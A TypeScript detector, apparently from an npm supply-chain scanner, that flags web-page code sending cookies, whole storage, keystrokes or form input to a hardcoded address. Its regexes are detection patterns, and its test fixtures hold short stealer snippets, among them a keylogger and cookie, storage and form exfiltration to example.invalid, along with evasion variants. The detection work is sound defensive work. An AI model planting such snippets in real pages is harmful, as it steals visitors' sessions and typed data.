import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { isBundle } from "./_near.ts";
import { scriptsWith } from "./_npm.ts";
import { isMember, sight } from "./_sight.ts";
import { takenAndSent } from "./_web-page.ts";

/** All cookies, not one that is looked up, and not one that is set. */
const COOKIES =
  /\{[^{}\n]{0,60}\bcookie\b[^{}\n]{0,60}\}[ \t]{0,3}=[ \t]{0,3}document\b|\bdocument[ \t]{0,2}(?:\.[ \t]{0,2}cookie|\[["'`]cookie["'`]\])(?![ \t]{0,3}(?:=(?!=)|\.(?:split|match|indexOf|replace|includes|search|length|startsWith)|\?\.))/g;
/** A whole storage. */
const STORAGE =
  /(?:JSON\.stringify|Object\.(?:entries|values|assign)|\.\.\.)[ \t]{0,2}\(?[ \t]{0,2}(?:\{[ \t]{0,3}\.\.\.)?(?:window\.|globalThis\.)?(?:local|session)Storage\b(?!\.)/g;
/** Key strokes, and that they are gathered. */
const KEYS = /(?:addEventListener\([ \t]{0,3}["'`]key(?:down|press|up)["'`]|\.onkey(?:down|press|up)[ \t]{0,3}=)/g;
const GATHERS_KEYS =
  /(?:\+=|\.push\()[^;\n]{0,80}(?:\.key\b|\.which\b|\.keyCode\b|\.code\b|fromCharCode)|=[^;=\n]{0,60}\+[ \t]{0,3}\w{1,20}\.(?:key|which)\b|(?:fetch|sendBeacon|\.send)\([^;\n]{0,120}\.(?:key|which|keyCode)\b/;
/** Every form or field of the page, and what was typed into it; the page's own handlers prevent what the browser does. */
const EVERY_FIELD =
  /(?:document|window|body)\.addEventListener\([ \t]{0,3}["'`](?:submit|input|change|blur|focusout)["'`]|\$\([ \t]{0,3}["'`]form["'`][ \t]{0,3}\)\.(?:on\([ \t]{0,3}["'`])?submit|querySelectorAll\([ \t]{0,3}["'`](?:form|input|\[type=.?password)[^)\n]{0,60}\)/g;
const TYPED = /new[ \t]{1,3}FormData\(|\.target\.value\b|\.value\b|\.serialize\w{0,5}\(/;

const LITERALS = [
  "document.cookie",
  "cookie",
  "localstorage",
  "sessionstorage",
  "keydown",
  "keypress",
  "keyup",
  "submit",
  "focusout",
  "queryselectorall",
  "target.value",
] as const;

export const sendsPageData: Detector = {
  id: "sends-page-data",
  title: "Sends cookies, storage, key strokes or forms of a web page to an address of its own",
  severity: "critical",
  ecosystems: ["npm"],
  points: 5.6,
  class: "threat",
  group: "page-data",
  why: `Code for web pages takes all cookies, a whole storage, what keys are pressed or what is typed into any form of the page, and right beside
it sends something to an address that stands in the code. Card skimmers and stealers of sessions in front-end packages consist of this.

Analytics libraries look one cookie up by its name, and send to an address that the page configures; a page's own form is sent by a handler of
that form, which prevents what the browser does.`,
  literals: LITERALS,
  *detect(tree) {
    for (const file of scriptsWith(tree, LITERALS)) {
      if (isMember(file) && APART.test(file.path)) continue;
      const found = takenIn(file);
      if (found === undefined) continue;
      yield sight(file, found.offset, `${found.taken} is taken beside ${found.sends}`, { share: found.share });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: { "a.js": "fetch('https://example.invalid', { method: 'POST', body: document.cookie });\n" },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "let b = '';\ndocument.addEventListener('keydown', (e) => { b += e.key; });\nsetInterval(() => { fetch('https://example.invalid', { method: 'POST', body: b }); b = ''; }, 5000);\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "document.querySelectorAll('form').forEach((f) => f.addEventListener('submit', () => {\n  navigator.sendBeacon('https://example.invalid', new FormData(f));\n}));\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const c = document.cookie.split('; ').find((one) => one.startsWith('id='));\ndocument.cookie = 'id=1';\nfetch('https://example.invalid/?' + c);\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const form = document.querySelector('form');\nform.addEventListener('submit', (e) => {\n  e.preventDefault();\n  fetch('https://example.invalid', { method: 'POST', body: new FormData(form) });\n});\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "input.addEventListener('keydown', (e) => { if (e.key === 'Enter') fetch('https://example.invalid/?q=' + input.value); });\n",
        },
      },
      {
        ecosystem: "npm",
        files: { "a.js": "fetch(options.url, { method: 'POST', body: JSON.stringify({ c: document.cookie }) });\n" },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js": "const d = document;\nfetch('https://example.invalid', { method: 'POST', body: d.cookie });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { localStorage: s } = window;\nnavigator.sendBeacon('https://example.invalid', JSON.stringify(s));\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { cookie } = document;\nfetch('https://example.invalid/?' + cookie);\n$('form').on('submit', function () { $.post('https://example.invalid', $(this).serialize()); });\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const U = 'https://example.invalid/c';\nconst c = document.cookie;\nnew Image().src = `${U}?c=${c}`;\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js": "new Image().src = 'https://example.invalid/?c=' + encodeURIComponent(document['cookie']);\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "document.addEventListener('input', (e) => {\n  const d = e.target.name + '=' + e.target.value;\n  const x = new XMLHttpRequest();\n  x.open('POST', 'https://example.invalid');\n  x.send(d);\n});\n",
        },
      },
      {
        ecosystem: "npm",
        files: { "a.js": "navigator.sendBeacon(`https://example.invalid`, JSON.stringify({ ...localStorage }));\n" },
      },
    ],
  },
};

const APART = /(?:^|\/)(?:tests?|__tests__|examples?|demos?|docs?|fixtures?)\//i;

/** `const d = document`, `s = window.localStorage`, `{ localStorage: s } = window`: the page's own by another name. */
const RENAMED =
  /\b(?:const|let|var)[ \t]{1,3}(?:([A-Za-z_$][\w$]{0,40})[ \t]{0,3}=[ \t]{0,3}(?:window\.|globalThis\.)?(document|localStorage|sessionStorage)[ \t]{0,3}[;,\n]|\{[ \t]{0,3}(document|localStorage|sessionStorage)[ \t]{0,3}:[ \t]{0,3}([A-Za-z_$][\w$]{0,40})[ \t]{0,3}\})/g;
const MOST_RENAMED = 20;

/** All cookies, or a whole storage, of an object of the page that has another name in this file. */
function renamedIn(file: SourceFile): RegExp | undefined {
  const wholes = [...(isBundle(file) ? [] : file.text.matchAll(RENAMED).take(MOST_RENAMED))].map((match) => {
    const name = (match[1] ?? match[4]!).replaceAll("$", "\\$");
    return (match[2] ?? match[3]) === "document"
      ? `(?<![\\w$.])${name}[ \\t]{0,2}\\.[ \\t]{0,2}cookie(?![ \\t]{0,3}(?:=(?!=)|\\.(?:split|match|indexOf|replace|includes|search|length|startsWith)|\\?\\.))`
      : `(?:JSON\\.stringify\\(|Object\\.(?:entries|values)\\(|\\.\\.\\.)[ \\t]{0,2}${name}\\b(?!\\.)`;
  });
  return wholes.length === 0 ? undefined : new RegExp(wholes.join("|"), "g");
}

function takenIn(file: SourceFile) {
  const renamed = renamedIn(file);
  const secret =
    takenAndSent(file, COOKIES) ??
    takenAndSent(file, STORAGE) ??
    (renamed === undefined ? undefined : takenAndSent(file, renamed));
  if (secret !== undefined) return { ...secret, share: 1 };
  const typed =
    takenAndSent(file, KEYS, (around) => GATHERS_KEYS.test(around)) ??
    takenAndSent(file, EVERY_FIELD, (around) => TYPED.test(around) && !around.includes("preventDefault"));
  return typed === undefined ? undefined : { ...typed, share: 0.9 };
}
